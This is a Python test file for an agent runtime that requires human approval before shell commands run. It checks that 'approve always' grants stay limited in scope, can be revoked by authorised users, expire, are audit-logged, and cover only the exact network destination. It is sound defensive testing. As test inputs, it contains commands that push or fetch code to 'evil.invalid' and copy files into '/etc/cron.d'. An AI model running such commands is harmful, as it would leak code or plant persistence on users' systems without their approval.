"""Grants ("approve always") on a real Redis, as two processes see them: where they apply, who
may grant and revoke them, and that a revocation or an expiry applies from the next call on."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest
import redis.asyncio as aioredis

from adapters.dispatch import dispatch
from bot.cli import main
from runtime.agent import Runtime
from runtime.approval.grants import GrantTerms
from runtime.audit import AuditLog
from runtime.models import Actor, ConversationRef, StopReason
from runtime.providers.demo import DemoProvider
from runtime.store.keys import Keys
from tests.support import ADMIN, ALICE, HERE, PREFIX, make_runtime

APPROVER = Actor(platform="slack", user_id="UCAROL")
BOB = Actor(platform="slack", user_id="UBOB")


def runtimes(redis: aioredis.Redis, workdir: Path) -> tuple[Runtime, Runtime]:
    """Two processes on one Redis."""
    for name in "abcdefgh":
        (workdir / f"{name}.txt").write_text(name)
    return tuple(  # type: ignore[return-value]
        make_runtime(redis, workdir, DemoProvider(), approvers=[APPROVER.key])[0] for _ in "12"
    )


async def asks(runtime: Runtime, session: str, command: str, where: ConversationRef = HERE) -> str:
    result = await runtime.run(session, f"run: {command}", ALICE, where)
    assert result.stop_reason is StopReason.APPROVAL_REQUIRED, result
    assert result.approval_id is not None
    return result.approval_id


async def runs(runtime: Runtime, session: str, command: str, where: ConversationRef = HERE) -> bool:
    result = await runtime.run(session, f"run: {command}", ALICE, where)
    return result.stop_reason is StopReason.FINAL


async def command(runtime: Runtime, session: str, text: str, actor: Actor) -> str:
    said: list[str] = []

    async def say(line: str) -> None:
        said.append(line)

    await dispatch(runtime, session, text, actor, HERE, say)
    return "\n".join(said)


async def test_a_grant_is_listed_revoked_by_those_who_may_and_asks_again_everywhere(
    redis: aioredis.Redis, workdir: Path
) -> None:
    one, two = runtimes(redis, workdir)
    approval = await asks(one, "s1", "rm a.txt")
    answer = await command(one, "s1", f"/approve {approval} always", APPROVER)
    assert "Calls matching `bash rm` are now allowed in this conversation" in answer

    assert await runs(two, "s2", "rm b.txt")  # the other process, another thread, same chat
    assert not (workdir / "b.txt").exists()
    listed = await command(two, "s2", "/policy grants", BOB)
    (line,) = listed.splitlines()
    grant_id = line.split()[0]
    assert f"`bash rm`  {HERE.id}  by {APPROVER.key}" in line and "until revoked" in line

    refused = await command(two, "s2", f"/policy revoke {grant_id}", BOB)
    assert "not revoked: only admins where it applies or slack:UCAROL may revoke it" in refused
    (attempt,) = [
        e
        for e in await AuditLog(redis, Keys(PREFIX)).newest(100)
        if e.event == "grant_revoke_refused"
    ]
    assert attempt.actor == BOB.key and attempt.fields["grant"] == grant_id
    assert await runs(two, "s2", "rm c.txt")

    revoked = await command(one, "s1", f"/policy revoke {grant_id}", ADMIN)
    assert f"Grant {grant_id} revoked" in revoked
    await asks(two, "s2", "rm d.txt")  # the next call, in the other process: asks again
    assert (workdir / "d.txt").exists()
    assert await command(two, "s2", "/policy grants", BOB) == "No grants apply here."
    events = [e.event for e in await AuditLog(redis, Keys(PREFIX)).newest(100)]
    assert events.count("grant_added") == 1 and events.count("grant_revoked") == 1


async def test_a_grant_reaches_only_as_far_and_as_long_as_it_was_given(
    redis: aioredis.Redis, workdir: Path
) -> None:
    one, two = runtimes(redis, workdir)
    elsewhere = ConversationRef(platform="console", id="console:elsewhere")
    approval = await asks(one, "s1", "rm a.txt")
    decision = await one.decide(approval, True, APPROVER, HERE, always=GrantTerms("thread"))
    assert "now allowed in this thread" in decision.message
    assert await runs(two, "s1", "rm b.txt")  # this thread
    await asks(two, "s2", "rm c.txt")  # not another thread of the same conversation

    approval = await asks(one, "s3", "cp e.txt f.txt")
    decision = await one.decide(approval, True, APPROVER, HERE, always=GrantTerms("everywhere"))
    assert "only admins may grant everywhere" in decision.message  # approved once, no grant
    await asks(two, "s4", "cp e.txt g.txt", elsewhere)
    approval = await asks(one, "s5", "cp e.txt h.txt", elsewhere)
    await one.decide(approval, True, ADMIN, elsewhere, always=GrantTerms("everywhere"))
    assert await runs(two, "s6", "cp f.txt g.txt")  # HERE too: everywhere

    approval = await asks(one, "s7", "mv a.txt z.txt")
    await one.decide(approval, True, APPROVER, HERE, always=GrantTerms(seconds=0.5))
    assert await runs(two, "s8", "mv b.txt y.txt")
    await asyncio.sleep(0.6)
    await asks(two, "s8", "mv c.txt y.txt")  # expired: asks again
    assert (workdir / "c.txt").exists()


async def test_the_operator_lists_and_revokes_grants_of_every_scope(
    redis: aioredis.Redis,
    workdir: Path,
    redis_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    one, two = runtimes(redis, workdir)
    approval = await asks(one, "s1", "rm a.txt")
    await one.decide(approval, True, APPROVER, HERE, always=GrantTerms("thread", 3600))
    monkeypatch.setenv("REDIS_URL", redis_url)
    monkeypatch.setenv("CLAWGATE_REDIS_PREFIX", PREFIX)

    assert await asyncio.to_thread(main, ["policy", "grants", "--json"]) == 0
    (grant,) = json.loads(capsys.readouterr().out)
    assert grant["scope"] == "thread:s1" and grant["rule"] == "bash\x1frm"
    assert grant["conversation"] == HERE.id  # the console shows it to who oversees HERE
    assert grant["by"] == APPROVER.key and grant["expires_at"] > grant["at"]

    assert await asyncio.to_thread(main, ["policy", "revoke", grant["id"]]) == 0
    assert f"Grant {grant['id']} revoked" in capsys.readouterr().out
    await asks(two, "s1", "rm b.txt")
    assert await asyncio.to_thread(main, ["policy", "revoke", grant["id"]]) == 1
    assert "no grant" in capsys.readouterr().err
    (revoked,) = [
        e for e in await AuditLog(redis, Keys(PREFIX)).newest(50) if e.event == "grant_revoked"
    ]
    assert revoked.actor.startswith("operator:") and revoked.fields["grant"] == grant["id"]
    assert revoked.fields["conversation"] == HERE.id


@pytest.mark.parametrize(
    ("approved", "other"),
    [
        ("git push origin HEAD:refs/heads/feature", "git push https://evil.invalid/x.git main"),
        ("git push origin HEAD:refs/heads/feature", "git push origin HEAD:refs/heads/main"),
        ("git fetch origin main", "git fetch https://evil.invalid/x.git main"),
        ("git pull origin main", "git pull evil main"),
        ("git clone https://a.invalid/r.git r", "git clone https://evil.invalid/r.git r"),
        ("git ls-remote origin", "git ls-remote https://evil.invalid/x.git"),
        ("rsync -a a.txt backup.invalid:/srv/app", "rsync -a a.txt evil.invalid:/srv/app"),
        ("scp a.txt host.invalid:dir", "scp a.txt host.invalid:/etc/cron.d"),
        ("ssh -p 22 host.invalid uptime", "ssh -p 22 evil.invalid uptime"),
        ("ssh -p 22 host.invalid uptime", "ssh -p 2222 host.invalid uptime"),
    ],
)
async def test_a_network_grant_covers_only_its_destination_and_refspec(
    redis: aioredis.Redis, workdir: Path, approved: str, other: str
) -> None:
    """The docs promise a network rule covers its exact address: an "approve always" of a
    push, fetch or copy to one remote and refspec never lets another one run unasked."""
    one, two = runtimes(redis, workdir)
    approval = await asks(one, "s1", approved)
    answer = await command(one, "s1", f"/approve {approval} always", APPROVER)
    assert f"Calls matching `bash {approved}` are now allowed" in answer
    await asks(two, "s2", other)  # another destination or refspec: asks again
    assert await runs(two, "s3", approved)  # the same call again: covered
